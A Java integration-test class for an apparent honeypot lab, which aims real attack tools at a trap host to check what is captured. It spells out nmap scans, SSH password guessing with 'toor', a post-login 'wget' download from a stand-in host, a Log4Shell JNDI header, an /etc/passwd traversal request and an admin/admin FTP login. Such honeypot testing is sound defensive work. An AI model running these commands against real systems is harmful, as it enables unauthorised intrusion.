// SPDX-License-Identifier: Apache-2.0
package io.honeymesh.itests;

import io.honeymesh.lab.Command;
import io.honeymesh.lab.Host;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CompletableFuture;

/** Programs that attackers really use, each on a host of its own, all at the same time. */
final class Attackers {

    private static final Duration LIMIT = Duration.ofSeconds(60);

    /** One of each kind that the SSH trap offers: what the bundle lacks of a library shows only when it is spoken. */
    static final List<String> KEY_EXCHANGES = List.of(
            "sntrup761x25519-sha512@openssh.com",
            "curve25519-sha256",
            "ecdh-sha2-nistp521",
            "diffie-hellman-group-exchange-sha256",
            "diffie-hellman-group14-sha256");

    /** @param host where it ran */
    record Attack(Host host, Command.Result result) {}

    private final Victim victim;
    private final Map<String, CompletableFuture<Attack>> running = new LinkedHashMap<>();

    private final Path guesses;

    Attackers(Victim victim) throws IOException {
        this.victim = victim;
        this.guesses = guesses();
    }

    /** Lets all of them loose. @return what came of each, by name */
    Map<String, Attack> run() {
        String target = victim.host().ipv4();
        attack("scan", "nmap", "-sS", "-Pn", "-n", "-T4", "--max-retries", "1", "-p", "1000-1120", target);
        attack(
                "version",
                "nmap",
                "-sV",
                "-Pn",
                "-n",
                "-T4",
                "--max-retries",
                "1",
                "--host-timeout",
                "15s",
                "-p",
                "21,22,80",
                target);
        attack(
                "login",
                ssh(List.of("env", "-u", "SSH_ASKPASS", "-u", "SSH_ASKPASS_REQUIRE", "sshpass", "-p", "toor"), target));
        for (int i = 0; i < KEY_EXCHANGES.size(); i++) {
            attack("kex-" + i, kex(KEY_EXCHANGES.get(i), target));
        }
        attack("guesser", ssh(List.of("setsid", "-w"), target));
        attack("curious", "curl", "-sS", "-i", "-m", "20", "http://" + target + "/");
        attack(
                "exploit",
                "curl",
                "-sS",
                "-i",
                "-m",
                "20",
                "--path-as-is",
                "-A",
                "${jndi:ldap://resolve.me.example/a}",
                "http://" + target + "/cgi-bin/../../../../etc/passwd");
        attack(
                "ftp",
                "lftp",
                "-c",
                "set net:timeout 10; set net:max-retries 1; set ssl:verify-certificate no; open -u admin,admin -p 21 "
                        + target + "; ls; bye");
        attack(
                "sweep",
                "nmap",
                "-6",
                "-sT",
                "-Pn",
                "-n",
                "-r",
                "-T4",
                "--max-retries",
                "1",
                "--host-timeout",
                "15s",
                "-p",
                "20-60",
                victim.host().ipv6());
        Map<String, Attack> done = new LinkedHashMap<>();
        running.forEach((name, attack) -> done.put(name, attack.join()));
        return done;
    }

    /** OpenSSH asks this program where it has no terminal: another password each time. */
    private Path guesses() throws IOException {
        Path script = victim.lab().folder().resolve("guess");
        Files.writeString(script, """
                #!/bin/sh
                echo x >> "$0.tried"
                echo "guess$(wc -l < "$0.tried")"
                """);
        Files.setPosixFilePermissions(script, PosixFilePermissions.fromString("rwx------"));
        return script;
    }

    private static String[] kex(String exchange, String target) {
        return ssh(
                List.of("env", "-u", "SSH_ASKPASS", "-u", "SSH_ASKPASS_REQUIRE", "sshpass", "-p", exchange),
                target,
                "-o",
                "KexAlgorithms=" + exchange);
    }

    private static String[] ssh(List<String> before, String target, String... options) {
        List<String> words = new ArrayList<>(before);
        words.addAll(List.of(
                "ssh",
                "-F",
                "none",
                "-o",
                "StrictHostKeyChecking=no",
                "-o",
                "UserKnownHostsFile=/dev/null",
                "-o",
                "PreferredAuthentications=password",
                "-o",
                "NumberOfPasswordPrompts=4",
                "-o",
                "ConnectTimeout=10"));
        words.addAll(List.of(options));
        words.addAll(List.of("root@" + target, "uname -a; wget http://192.0.2.66/x"));
        return words.toArray(String[]::new);
    }

    private void attack(String name, String... words) {
        Host host = victim.lab().host(name);
        Command command = Command.of(words)
                .with("SSH_ASKPASS", guesses.toString())
                .with("SSH_ASKPASS_REQUIRE", "force")
                .with("DISPLAY", ":0");
        running.put(
                name,
                host.start(name, () -> new Attack(host, host.command(command).run(LIMIT))));
    }
}
